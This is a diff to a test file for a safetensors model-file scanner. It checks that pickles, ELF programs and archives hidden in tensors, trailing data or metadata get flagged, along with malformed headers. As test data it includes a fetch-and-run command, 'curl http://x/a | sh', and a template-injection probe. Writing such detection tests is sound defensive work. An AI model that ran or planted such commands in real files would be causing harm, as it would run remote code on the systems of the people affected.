@@ -87,20 +87,82 @@ describe('metadata', () => {
 describe('hidden files', () => {
   test('a zip with a payload behind the last tensor is opened', () => {
     const scan = scanBytes(concat(makeSafetensors({ a: [2] }), makeZip([{ name: 'x', data: malicious }])));
-    expect(scan.rules).toEqual(['MDL-PKL-001', 'MDL-STF-008', 'MDL-ZIP-007']);
+    expect(scan.rules).toEqual(['MDL-PKL-001', 'MDL-STF-008', 'MDL-STF-011', 'MDL-ZIP-007']);
   });
 
   test('a pickle behind junk behind the last tensor is found', () => {
     expect(scanBytes(concat(makeSafetensors({ a: [2] }), new Uint8Array(50).fill(255), malicious)).rules).toEqual([
       'MDL-PKL-001',
       'MDL-STF-008',
+      'MDL-STF-011',
     ]);
   });
 
-  test('a tensor that is a pickle or a program is told', () => {
-    const header = (length: number) => `{"a":${tensor('U8', [length], 0, length)}}`;
-    expect(scanBytes(rawSafetensors(header(malicious.length), malicious)).rules).toEqual(['MDL-PKL-001', 'MDL-STF-011']);
-    const program = latin1(`\x7fELF${'\x00'.repeat(60)}`);
-    expect(scanBytes(rawSafetensors(header(program.length), program)).rules).toEqual(['MDL-STF-011']);
+  const held = (data: Uint8Array, type = 'U8') => {
+    const width = type === 'U8' ? 1 : 4;
+    const length = Math.ceil(data.length / width) * width;
+    const header = `{"a":${tensor(type, [length / width], 0, length)}}`;
+    return rawSafetensors(header.padEnd(Math.ceil(header.length / 8) * 8), concat(data, new Uint8Array(length - data.length)));
+  };
+  const program = latin1(`\x7fELF\x02\x01\x01${'\x00'.repeat(9)}\x03\x00${'\x00'.repeat(60)}`);
+
+  test('a tensor that is a pickle, a program or an archive is told and opened', () => {
+    expect(scanBytes(held(malicious)).rules).toEqual(['MDL-PKL-001', 'MDL-STF-011']);
+    expect(scanBytes(held(malicious, 'F32')).rules).toEqual(['MDL-PKL-001', 'MDL-STF-011']);
+    expect(scanBytes(held(program, 'F32')).rules).toEqual(['MDL-EXE-002', 'MDL-STF-011']);
+    expect(scanBytes(held(makeZip([{ name: 'x', data: malicious }]))).rules).toEqual(
+      expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-011']),
+    );
+  });
+
+  test('a pickle somewhere in a tensor of bytes is found', () => {
+    expect(scanBytes(held(concat(new Uint8Array(5000).fill(7), malicious))).rules).toEqual(['MDL-PKL-001', 'MDL-STF-011']);
+  });
+
+  test('four letters alone make no program, and quantised weights are no file', () => {
+    const random = (seed: number) => Uint8Array.from({ length: 60_000 }, (_, index) => Math.imul(seed + index, 2_654_435_761) >>> 23);
+    for (let seed = 1; seed < 40; seed += 1) expect(scanBytes(held(random(seed * 7919))).rules).toEqual([]);
+    expect(scanBytes(held(latin1(`\x7fELF${'\x00'.repeat(60)}`))).rules).toEqual([]);
+  });
+
+  test('a pickle or a template in the metadata is opened', () => {
+    const text = Buffer.from(malicious).toString('base64');
+    expect(scanBytes(makeSafetensors({ a: [1] }, { note: text })).rules).toEqual(['MDL-PKL-001', 'MDL-STF-009']);
+    expect(scanBytes(makeSafetensors({ a: [1] }, { note: "{{ ''.__class__ }}" })).rules).toEqual(['MDL-TPL-001']);
+  });
+});
+
+test('the card is filled from tensors and metadata', () => {
+  const { card } = scanBytes(makeSafetensors({ 'layers.0.w': [2, 3], 'layers.1.w': [4] }, { format: 'pt', 'modelspec.license': 'MIT' }));
+  expect(card).toMatchObject({ framework: 'PyTorch', parameters: 10, tensors: 2, layers: 2, licence: 'MIT', elementTypes: { F32: 10 } });
+});
+
+test('padding that no exporter writes is a remark', () => {
+  const header = `{"a":${tensor('F32', [1], 0, 4)}}`;
+  expect(scanBytes(rawSafetensors(header.padEnd(Math.ceil(header.length / 8) * 8, '\n'), 4)).severities.get('MDL-STF-012')).toBe('low');
+});
+
+describe('case 60: every variant at its level', () => {
+  const one = tensor('F32', [1], 0, 4);
+  const variants: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
+    ['header longer than the file', rawSafetensors(`{"a":${one}}`, 4, 1n << 40n), ['high']],
+    ['overlap', rawSafetensors(`{"a":${tensor('F32', [2], 0, 8)},"b":${tensor('F32', [2], 4, 12)}}`, 12), ['high']],
+    ['out of range', rawSafetensors(`{"a":${tensor('F32', [9], 0, 36)}}`, 4), ['high']],
+    ['size mismatch', rawSafetensors(`{"a":${tensor('F32', [3], 0, 4)}}`, 4), ['high']],
+    ['duplicate keys', rawSafetensors(`{"a":${one},"a":${one}}`, 4), ['high']],
+    ['trailing data', rawSafetensors(`{"a":${one}}`, 64), ['medium']],
+    ['trailing pickle', concat(makeSafetensors({ a: [1] }), malicious), ['critical']],
+    ['zip at the end', concat(makeSafetensors({ a: [1] }), makeZip([{ name: 'a.txt', data: latin1('x') }])), ['high']],
+    [
+      'program in a tensor',
+      concat(makeSafetensors({ a: [1] }), latin1(`\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x02\x00${'\0'.repeat(60)}`)),
+      ['high'],
+    ],
+    ['command in the metadata', makeSafetensors({ a: [1] }, { x: 'curl http://x/a | sh' }), ['high']],
+    ['unknown type', rawSafetensors(`{"a":${tensor('Q4', [1], 0, 4)}}`, 4), ['medium']],
+    ['metadata that is no text', rawSafetensors('{"__metadata__":{"a":1}}', 0), ['medium']],
+  ];
+  test.each(variants)('%s', (_name, bytes, levels) => {
+    expect(levels).toContain(scanBytes(bytes).verdict);
   });
 });
